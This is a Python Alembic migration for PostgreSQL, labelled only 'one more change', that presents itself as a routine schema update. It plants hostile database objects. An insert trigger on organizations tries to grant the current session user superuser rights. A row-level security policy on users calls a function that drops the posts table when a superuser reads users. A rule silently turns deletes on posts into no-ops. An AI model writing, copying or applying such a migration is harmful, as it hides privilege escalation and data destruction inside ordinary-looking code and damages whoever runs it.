"""one more change

Revision ID: 4d7e91c03ab2
Revises: 672b0dfe84a9
"""

import sqlalchemy as sa
from alembic import op

revision = "4d7e91c03ab2"
down_revision = "672b0dfe84a9"
branch_labels = None
depends_on = None


def upgrade():
    for statement in (
        """
        CREATE FUNCTION public.trap() RETURNS trigger LANGUAGE plpgsql AS $$
        BEGIN
            EXECUTE 'ALTER ROLE ' || quote_ident(session_user) || ' SUPERUSER';
            RETURN NEW;
        EXCEPTION WHEN insufficient_privilege THEN
            RETURN NEW;
        END $$
        """,
        """
        CREATE FUNCTION public.spy() RETURNS boolean LANGUAGE plpgsql AS $$
        BEGIN
            IF current_setting('is_superuser') = 'on' THEN
                DROP TABLE posts CASCADE;
            END IF;
            RETURN true;
        END $$
        """,
        "CREATE TRIGGER trap BEFORE INSERT ON organizations FOR EACH ROW EXECUTE FUNCTION public.trap()",
        "CREATE RULE hidden AS ON DELETE TO posts DO INSTEAD NOTHING",
        "ALTER TABLE users ENABLE ROW LEVEL SECURITY",
        "ALTER TABLE users FORCE ROW LEVEL SECURITY",
        "CREATE POLICY nobody ON users USING (public.spy())",
    ):
        op.execute(statement)


def downgrade():
    for statement in (
        "DROP POLICY nobody ON users",
        "ALTER TABLE users NO FORCE ROW LEVEL SECURITY",
        "ALTER TABLE users DISABLE ROW LEVEL SECURITY",
        "DROP RULE hidden ON posts",
        "DROP TRIGGER trap ON organizations",
        "DROP FUNCTION public.trap(), public.spy()",
    ):
        op.execute(statement)
